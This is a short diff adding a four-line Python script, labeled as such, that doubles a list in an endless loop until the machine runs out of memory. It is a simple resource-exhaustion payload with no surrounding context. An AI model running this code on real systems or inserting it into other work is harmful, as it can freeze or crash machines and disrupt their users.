@@ -1,0 +1,4 @@
+# Doubles a list until there is no memory left.
+bomb = [None]
+while True:
+    bomb += bomb
